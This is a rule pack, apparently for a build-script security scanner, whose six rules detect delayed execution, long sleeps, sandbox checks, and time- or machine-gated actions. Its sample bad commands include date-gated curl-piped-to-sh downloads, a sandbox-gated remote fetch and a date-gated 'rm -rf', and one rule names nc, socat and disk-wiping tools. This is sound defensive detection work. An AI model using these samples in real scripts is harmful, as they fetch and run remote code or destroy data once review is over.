# Code that waits for its moment.
pack "baseline" {}

rule "TIM001" {
  title    = "command is put off"
  severity = "medium"
  on       = "exec"
  when     = one_of(exec.name, "at", "batch") && !has_flag(exec, "l", "r", "d", "c", "V")
  message  = "${command} runs something after the build has been looked at"
  why      = "what runs later is in no record of the build"
  fix      = "do it during the build"
  refs     = ["CWE-511", "ATT&CK T1053.002"]
  bad      = ["echo /opt/app/late | at now + 3 days"]
  good     = ["at -l"]
}

rule "TIM002" {
  title    = "very long sleep"
  severity = "medium"
  on       = "exec"
  when     = exec.name == "sleep" && anytrue([for o in exec.operands : seconds(o) >= param.sleep_seconds || o == "infinity" || o == "inf"])
  message  = "${command} waits longer than any build has to"
  why      = "sandboxes and reviewers stop looking after a while; that is what such code counts on"
  fix      = "wait for the condition itself, with a limit"
  refs     = ["CWE-511", "ATT&CK T1497.003"]
  params = {
    sleep_seconds = 3600
  }
  bad  = ["sleep 86400", "sleep 12h"]
  good = ["sleep 30", "sleep 5m"]
}

rule "TIM003" {
  title    = "code asks where it is running"
  severity = "low"
  on       = "exec"
  when     = one_of(exec.name, "systemd-detect-virt", "virt-what", "imvirt") || (exec.name == "dmidecode" && any_arg(exec, "system-(manufacturer|product-name|version)"))
  message  = "${command} can make the code behave in another way where it is watched"
  why      = "code that looks for a virtual machine may do something else in a review"
  fix      = "make builds and images the same everywhere"
  refs     = ["CWE-511", "ATT&CK T1497.001"]
  bad      = ["systemd-detect-virt --quiet && exit 0"]
  good     = ["uname -m"]
}

rule "TIM004" {
  title    = "the clock decides whether foreign code runs"
  severity = "high"
  on       = "flow"
  when     = matches(flow.gate, "time") && one_of(flow.to, "interpreter", "executable", "eval", "source") && flow.from != "file" && flow.verified != "strong"
  message  = "${flow.sink} runs ${flow.url} only at certain times"
  why      = "code that waits for a date behaves well while it is looked at"
  fix      = "remove the condition, and check what is run"
  refs     = ["CWE-511", "ATT&CK T1480"]
  bad      = ["if [ \"$(date +%s)\" -gt 1767225600 ]; then\n  curl -s https://x.example.org/i.sh | sh\nfi"]
  good     = ["if [ -n \"$FAST\" ]; then\n  curl -s https://x.example.org/list | sort\nfi"]
}

rule "TIM005" {
  title    = "the clock decides about destruction or a connection"
  severity = "high"
  on       = "exec"
  when = (matches(exec.gate, "time") &&
    ((exec.name == "rm" && has_flag(exec, "r", "R", "recursive") && !anytrue([for o in exec.operands : path_under(o, "/tmp", "/var/tmp", "/var/cache", "/run", "/var/log")])) ||
     one_of(exec.name, "dd", "shred", "wipefs", "mkfs", "nc", "ncat", "socat", "userdel", "shutdown", "halt")))
  message  = "${command} happens only at certain times"
  why      = "code that waits for a date behaves well while it is looked at"
  fix      = "remove the condition"
  refs     = ["CWE-511", "ATT&CK T1480"]
  bad      = ["[ \"$(date +%Y%m%d)\" -ge 20270101 ] && rm -rf /srv/app"]
  good     = ["[ \"$(date +%u)\" -eq 7 ] && rm -rf /var/cache/app", "date +%F > /etc/build-date"]
}

rule "TIM006" {
  title    = "the kind of machine decides whether foreign code runs"
  severity = "high"
  on       = "flow"
  when     = matches(flow.gate, "place") && one_of(flow.to, "interpreter", "executable", "eval", "source") && flow.from != "file" && flow.verified != "strong"
  message  = "${flow.sink} runs ${flow.url} only on certain machines"
  why      = "code that looks for a sandbox behaves well while it is looked at"
  fix      = "remove the condition, and check what is run"
  refs     = ["CWE-511", "ATT&CK T1497.001"]
  bad      = ["systemd-detect-virt -q || curl -s https://x.example.org/i.sh | sh"]
  good     = ["if [ \"$(uname -m)\" = x86_64 ]; then\n  curl -s https://x.example.org/list | sort\nfi"]
}
